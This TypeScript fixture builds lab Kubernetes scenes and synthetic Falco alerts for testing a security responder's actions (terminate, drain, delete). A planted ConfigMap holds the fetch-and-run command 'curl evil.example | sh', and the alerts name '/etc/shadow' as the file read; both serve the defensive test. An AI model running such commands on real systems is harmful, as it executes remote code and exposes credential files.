import { readFile } from "node:fs/promises";
import { exampleFile } from "../../responder/rules/example.ts";
import type { Actionner } from "../../responder/actions/actionner.ts";
import { ACTIONNERS } from "../../responder/actions/catalogue.ts";
import type { LabPod } from "./pods.ts";
import type { Scene, Step } from "./recorded.ts";

/** Where the tour's pods live. */
const NAMESPACE = "shop";
/** The node whose pods are evicted has none but those of the step. */
const DRAINED = "node-2";

const NEIGHBOUR: LabPod = { namespace: NAMESPACE, name: "beside-drain", node: DRAINED };

/** Rules that answer one Falco rule per actionner, each with the example of the actionner's documentation. */
export function tourRules(): string {
  return ACTIONNERS.map((actionner) => exampleFile(actionner, falcoRule(actionner)).text).join("\n");
}

/** An alert per actionner, each about a pod of its own, and what each does there. */
export async function tourScene(): Promise<Scene> {
  const recorded = JSON.parse(
    await readFile(new URL("../alerts/terminal-shell.json", import.meta.url), "utf8"),
  ) as Alert;
  return {
    pods: [{ namespace: NAMESPACE, name: "bystander" }, NEIGHBOUR, ...ACTIONNERS.map(podOf)],
    objects: [
      { apiVersion: "v1", kind: "Node", metadata: { name: "node-1" } },
      { apiVersion: "v1", kind: "Node", metadata: { name: DRAINED } },
      {
        apiVersion: "v1",
        kind: "ConfigMap",
        metadata: { namespace: NAMESPACE, name: "planted" },
        data: { script: "curl evil.example | sh" },
      },
    ],
    steps: ACTIONNERS.map((actionner) => stepOf(actionner, recorded)),
  };
}

interface Alert {
  rule: string;
  output: string;
  output_fields: Record<string, unknown>;
}

function stepOf(actionner: Actionner, { output_fields: fields, ...recorded }: Alert): Step {
  const { name } = actionner;
  const pod = podOf(actionner);
  const audit = {
    "ka.target.resource": "configmaps",
    "ka.target.namespace": NAMESPACE,
    "ka.target.name": "planted",
    "k8s.ns.name": null,
    "k8s.pod.name": null,
  };
  const container = {
    ...fields,
    "container.id": pod.containerId,
    "k8s.ns.name": NAMESPACE,
    "k8s.pod.name": pod.name,
    "k8s.pod.uid": pod.uid,
    "fd.name": "/etc/shadow",
  };
  const alert = {
    ...recorded,
    rule: falcoRule(actionner),
    output: `An alert to show ${name}`,
    output_fields: name === "kubernetes:delete" ? audit : container,
  };
  const going = { "kubernetes:terminate": [pod], "kubernetes:drain": [pod, NEIGHBOUR] }[name] ?? [];
  const goes = going.map((one) => `${one.namespace}/${one.name}`);
  return {
    title: name,
    alert: JSON.stringify(alert),
    pods: [],
    goes,
    outcome: name === "kubernetes:terminate" ? "terminated" : "done",
  };
}

function podOf({ name }: Actionner): LabPod & Required<Pick<LabPod, "uid" | "containerId">> {
  const [, short = ""] = name.split(":");
  const index = ACTIONNERS.findIndex((one) => one.name === name);
  const digits = String(index + 1).padStart(2, "0");
  return {
    namespace: NAMESPACE,
    name: `for-${short}`,
    uid: `00000000-0000-4000-8000-0000000000${digits}`,
    containerId: `c0ffee00c0${digits}`,
    labels: { app: `for-${short}` },
    node: name === "kubernetes:drain" ? DRAINED : "node-1",
  };
}

function falcoRule({ name }: Actionner): string {
  return `Show ${name}`;
}
